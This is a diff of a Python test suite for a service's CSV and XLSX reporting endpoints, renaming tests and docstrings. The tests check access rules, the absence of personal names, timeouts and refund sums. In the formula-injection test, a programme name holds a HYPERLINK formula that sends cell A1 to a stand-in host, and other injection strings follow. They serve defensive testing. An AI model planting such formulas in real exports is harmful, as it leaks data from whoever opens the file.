@@ -1,4 +1,4 @@
-"""Reports over HTTP: what they tell, to whom, and that spreadsheet programs run nothing of it."""
+"""Reports over HTTP: their contents, readers, and safety in spreadsheet programs."""
 
 import asyncio
 import csv
@@ -26,12 +26,12 @@ from tests.service.api.examples.team import ATeam, Given, a_team, ok
 from tests.service.api.examples.trips import booking, euros, fixed, pounds
 from tests.service.api.operations.examples.spreadsheet import cells
 
-pytestmark = pytest.mark.own_kring  # reports tell of everything
+pytestmark = pytest.mark.own_kring  # reports cover everything
 
 Rows = list[dict[str, str]]
 
-PATIENCE = 0.3  # seconds for a report that is to be late; each row or page takes twice as long
-SOON = 20.0  # seconds; a test that waits longer hangs
+REPORT_TIMEOUT_S = 0.3  # for reports that are meant to be late; each row or page takes twice as long
+TIMEOUT_S = 20.0  # a test that waits longer hangs
 
 
 async def report(client: httpx.AsyncClient, name: str, **query: Any) -> Rows:
@@ -45,7 +45,7 @@ async def at_head(api: Api) -> dict[str, int]:
 
 
 async def all_of(api: Api) -> Everybody:
-    """Everything that there can be, with a booking that was confirmed and a gathering that was held."""
+    """The complete setting, with a confirmed booking and a held gathering."""
     all_ = await everybody(api)
     team, ids = all_.team, all_.ids
     await ok(await team.members[0].post(f"/bookings/{ids['booking']}/confirmation", json={"reference": "AB-12"}), 200)
@@ -63,7 +63,7 @@ async def all_of(api: Api) -> Everybody:
 MOVED = {"due_on": "2027-04-01", "reason": "Later"}
 
 
-async def test_every_report_tells_what_happened(api: Api) -> None:
+async def test_every_report_shows_what_happened(api: Api) -> None:
     all_ = await all_of(api)
     team, ids, here = all_.team, all_.ids, {"programme": all_.team.programme}
     found = {one.name: await report(team.manager, one.name, **here, **await at_head(api)) for one in REPORTS}
@@ -109,10 +109,10 @@ def _only(rows: Rows, **said: str) -> dict[str, str]:
 
 
 TOLD_OF = {"turnout", "phases", "evidence", "response_times", "commitments_kept"}
-"""What a commissioner that sends nobody is told of. Never attendance, rankings or what a trip cost."""
+"""Reports for a commissioner without participants. Never attendance, rankings or costs of trips."""
 
 
-async def test_an_organisation_reads_what_it_was_told_and_a_manager_their_programmes(api: Api) -> None:
+async def test_organisations_and_managers_get_only_reports_of_what_they_may_read(api: Api) -> None:
     all_ = await all_of(api)
     bank, head = all_.known["reporting"], await at_head(api)
     found = {one.name: await report(bank, one.name, **head) for one in REPORTS}
@@ -131,7 +131,7 @@ async def test_an_organisation_reads_what_it_was_told_and_a_manager_their_progra
     assert await report(all_.known["manager elsewhere"], "turnout") == []
 
 
-async def test_an_employer_reads_who_it_sends(api: Api) -> None:
+async def test_an_employer_sees_its_own_participants(api: Api) -> None:
     setting = await programme(api, participants=2, challenges=1)
     client = await api.as_("reporting", organisations=(setting.organisation,))
     rows = await report(client, "participation", **await at_head(api))
@@ -142,7 +142,7 @@ async def test_an_employer_reads_who_it_sends(api: Api) -> None:
     assert await report(person, "participation") == []
 
 
-async def test_no_name_of_a_person_and_no_word_stands_in_a_report(api: Api) -> None:
+async def test_reports_contain_no_personal_names_or_free_text(api: Api) -> None:
     all_ = await all_of(api)
     texts = [
         (await all_.team.manager.get(f"/reporting/{one.name}.csv", params=await at_head(api))).text for one in REPORTS
@@ -162,7 +162,7 @@ async def test_no_name_of_a_person_and_no_word_stands_in_a_report(api: Api) -> N
         assert word not in said
 
 
-async def test_both_formats_say_the_same(api: Api) -> None:
+async def test_both_report_formats_have_the_same_content(api: Api) -> None:
     all_ = await all_of(api)
     head = await at_head(api)
     for one in REPORTS:
@@ -181,7 +181,7 @@ async def test_both_formats_say_the_same(api: Api) -> None:
         assert all(set(texts) <= set(cells_) for texts, cells_ in zip(filled, shown[1:], strict=True))
 
 
-async def test_what_looks_like_a_formula_is_a_text(api: Api) -> None:
+async def test_text_that_looks_like_a_formula_stays_text(api: Api) -> None:
     manager = await api.as_("manager")
     evil = '=HYPERLINK("http://example.org/?"&A1,"klik")'
     opened = made(await manager.post("/programmes", json={"name": evil, "edition": "-1+1"}))["id"]
@@ -200,7 +200,7 @@ async def test_what_looks_like_a_formula_is_a_text(api: Api) -> None:
     "text",
     ["=1+1", "＝1", "Bank;=1+1", 'Bank;"=1+1"', "Bank; -1", "Bank\t@SUM(A1)", "+31", "a;b=c", "Bank; Zwolle"],  # noqa: RUF001
 )
-def test_no_cell_begins_a_formula_wherever_a_program_parts_them(text: str, parts_at: str) -> None:
+def test_no_cell_starts_a_formula_whatever_the_separator(text: str, parts_at: str) -> None:
     file = io.BytesIO()
     sheet = spreadsheets.Csv(file, ["id", "name", "other"])
     sheet.write([["programme_1", text, "x"]])
@@ -212,7 +212,7 @@ def test_no_cell_begins_a_formula_wherever_a_program_parts_them(text: str, parts
         assert shown[1] == text
 
 
-async def test_a_report_comes_in_pages_and_whole(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_a_report_is_available_in_pages_and_complete(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
     setting = await programme(api, participants=5, challenges=1)
     monkeypatch.setattr("service.store.views.reporting.PAGE_ROWS", 2)
     written: list[int] = []
@@ -229,20 +229,20 @@ async def test_a_report_comes_in_pages_and_whole(api: Api, monkeypatch: pytest.M
 
 
 @pytest.mark.parametrize("slow", ["select", "write"])
-async def test_a_report_that_takes_too_long_is_given_up_and_said_so(
+async def test_a_report_that_takes_too_long_is_aborted_with_an_error(
     api: Api, monkeypatch: pytest.MonkeyPatch, slow: str
 ) -> None:
-    """Whoever is late, the database or the disk: the caller gets an answer, and the next report its turn."""
+    """Whether the database or the disk is slow, the caller gets an answer and the next report its turn."""
     setting = await programme(api, participants=3, challenges=1)
     head = await at_head(api)
     write = spreadsheets.Csv.write
 
     def slowly(sheet: spreadsheets.Csv, rows: Any) -> None:
-        time.sleep(2 * PATIENCE)
+        time.sleep(2 * REPORT_TIMEOUT_S)
         write(sheet, rows)
 
     with monkeypatch.context() as now_slow:
-        now_slow.setattr("service.store.views.reporting.REPORT_TIMEOUT_S", PATIENCE)
+        now_slow.setattr("service.store.views.reporting.REPORT_TIMEOUT_S", REPORT_TIMEOUT_S)
         now_slow.setattr("service.store.views.reporting.PAGE_ROWS", 1)
         if slow == "write":
             now_slow.setattr(spreadsheets.Csv, "write", slowly)
@@ -257,24 +257,22 @@ async def test_a_report_that_takes_too_long_is_given_up_and_said_so(
     assert len(await report(setting.manager, "participation")) == 3
 
 
-async def test_reports_wait_for_their_turn_but_not_any_number_of_them(
-    api: Api, monkeypatch: pytest.MonkeyPatch
-) -> None:
+async def test_a_bounded_number_of_reports_wait_in_the_queue(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
     setting, turn = await programme(api, participants=3, challenges=1), asyncio.Semaphore(0)
     head = await at_head(api)
     monkeypatch.setattr(api.kring.views, "report_slots", turn)
-    asked = [
+    requests = [
         asyncio.create_task(setting.manager.get("/reporting/turnout.csv", params=head))
         for _ in range(reporting.MAX_REPORTS + 1)
     ]
-    (refused,), waiting = await asyncio.wait(asked, return_when=asyncio.FIRST_COMPLETED, timeout=SOON)
+    (refused,), waiting = await asyncio.wait(requests, return_when=asyncio.FIRST_COMPLETED, timeout=TIMEOUT_S)
     assert (refused.result().status_code, refused.result().json()["code"]) == (503, "too-many-reports")
     turn.release()
     assert [one.status_code for one in await asyncio.gather(*waiting)] == [200] * reporting.MAX_REPORTS
     assert (await setting.manager.get("/reporting/turnout.csv")).status_code == 200
 
 
-async def test_more_rows_than_a_worksheet_has_are_refused_and_not_cut_off(
+async def test_more_rows_than_a_worksheet_holds_are_refused_not_truncated(
     api: Api, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     setting = await programme(api, participants=3, challenges=1)
@@ -284,7 +282,7 @@ async def test_more_rows_than_a_worksheet_has_are_refused_and_not_cut_off(
     assert len(await report(setting.manager, "participation")) == 3
 
 
-async def test_a_running_ballot_shows_how_many_voted(api: Api) -> None:
+async def test_the_report_of_an_open_ballot_shows_its_turnout(api: Api) -> None:
     setting = await programme(api)
     running = await ballot(setting)
     vote = {"approvals": [setting.challenges[0]]}
@@ -294,12 +292,12 @@ async def test_a_running_ballot_shows_how_many_voted(api: Api) -> None:
     assert row["closed_at"] == ""
 
 
-async def test_phases_follow_each_other_whatever_becomes_of_ballots(api: Api) -> None:
+async def test_phases_follow_each_other_whatever_the_outcome_of_ballots(api: Api) -> None:
     setting = await programme(api, participants=4, challenges=3)
     guide, person = setting.facilitator, PersonId(setting.ids[0])
 
     async def shown() -> list[tuple[str, bool]]:
-        """Each phase of the programme, and whether it lasts; the one begins where the other ended."""
+        """Each phase of the programme and whether it is running; each begins where the previous one ended."""
         rows = [row for row in await report(setting.manager, "phases", **await at_head(api)) if not row["team_id"]]
         assert [row["ended_at"] for row in rows[:-1]] == [row["began_at"] for row in rows[1:]]
         return [(row["phase"], row["ended_at"] == "") for row in rows]
@@ -330,7 +328,7 @@ async def test_phases_follow_each_other_whatever_becomes_of_ballots(api: Api) ->
     assert await shown() == whole
 
 
-async def test_a_booking_that_was_paid_counts_once_and_what_came_back_is_taken_off(api: Api) -> None:
+async def test_a_paid_booking_counts_once_less_its_refund(api: Api) -> None:
     team = await a_team(api)
     path, member = await fixed(team), team.members[0]
     hotel = made(await member.post(f"{path}/bookings", json={**booking(team), "amount": euros(30_000)}))["id"]
@@ -346,7 +344,7 @@ async def test_a_booking_that_was_paid_counts_once_and_what_came_back_is_taken_o
     assert figures == {"bookings_minor": 30_000, "expenses_minor": 39_000, "refunds_minor": 8_000, "cost_minor": 31_000}
 
 
-async def test_what_comes_back_lowers_the_cost_as_far_as_it_was_paid_and_as_it_was_charged(api: Api) -> None:
+async def test_a_refund_lowers_the_cost_by_at_most_what_was_paid_and_charged(api: Api) -> None:
     team = await a_team(api)
     path, member = await fixed(team), team.members[0]
     ferry, bus = [
@@ -358,7 +356,7 @@ async def test_what_comes_back_lowers_the_cost_as_far_as_it_was_paid_and_as_it_w
     for part, charged in ((4_000, 5_000), (6_000, 7_000)):
         paid = {"payer": team.people[0], "amount": pounds(part), "settled_as": euros(charged), "text": "Veerboot"}
         made(await member.post(f"{path}/expenses", json={**paid, "booking_id": ferry}))
-    for one in (ferry, bus):  # the bus was paid by an organisation, and nothing of it stands here
+    for one in (ferry, bus):  # an organisation paid for the bus, which does not appear here
         body = {"reason": "Staking", "refund": pounds(8_000)}
         made(await member.post(f"/bookings/{one}/cancellation", json=body), 200)
     rows = await report(team.manager, "trip_costs", **await at_head(api))
@@ -367,7 +365,7 @@ async def test_what_comes_back_lowers_the_cost_as_far_as_it_was_paid_and_as_it_w
     assert [row["refunds_minor"] for row in rows] == ["0", "16000"]
 
 
-async def test_the_largest_amounts_are_exact_from_end_to_end(api: Api) -> None:
+async def test_the_largest_amounts_are_exact_end_to_end(api: Api) -> None:
     team = await a_team(api)
     path, member = await fixed(team), team.members[0]
     largest = {"amount_minor": 10**15, "currency": "IDR"}
@@ -397,7 +395,7 @@ async def test_the_largest_amounts_are_exact_from_end_to_end(api: Api) -> None:
 
 
 @pytest.mark.parametrize("number", [10**15 - 1, 10**15, 2**53 + 1, -(2**53) - 1, 10**18 + 1])
-def test_a_whole_number_is_written_with_all_its_digits(number: int) -> None:
+def test_integers_are_written_with_all_their_digits(number: int) -> None:
     file = io.BytesIO()
     sheet = spreadsheets.Xlsx(file, ["number"])
     sheet.write([[number]])
@@ -406,13 +404,13 @@ def test_a_whole_number_is_written_with_all_its_digits(number: int) -> None:
 
 
 @pytest.mark.parametrize("file", ["ballots.csv", "turnout", "turnout.pdf", "turnout.csv.csv", "Turnout.csv"])
-async def test_what_is_no_report_is_not_found_and_none_is_listed(api: Api, file: str) -> None:
+async def test_an_unknown_report_is_not_found_or_listed(api: Api, file: str) -> None:
     answer = await (await api.as_("manager")).get(f"/reporting/{file}")
     assert answer.status_code == 404
     assert not any(one.name in answer.text for one in REPORTS if one.name not in file)
 
 
-async def test_a_programme_of_others_is_not_found(api: Api) -> None:
+async def test_reports_of_programmes_of_other_managers_are_not_found(api: Api) -> None:
     setting = await programme(api, participants=1, challenges=0)
     stranger = await api.as_("reporting", organisations=(await _organisation(setting.manager),))
     for one in (stranger, setting.manager):
@@ -427,7 +425,7 @@ async def _organisation(manager: httpx.AsyncClient) -> str:
     return made(await manager.post("/organisations", json={"name": "Isala"}))["id"]
 
 
-def test_every_report_is_there_in_both_formats() -> None:
+def test_every_report_is_available_in_both_formats() -> None:
     assert sorted(reporting.BY_FILE) == sorted(f"{one.name}.{end}" for one in REPORTS for end in ("csv", "xlsx"))
 
 
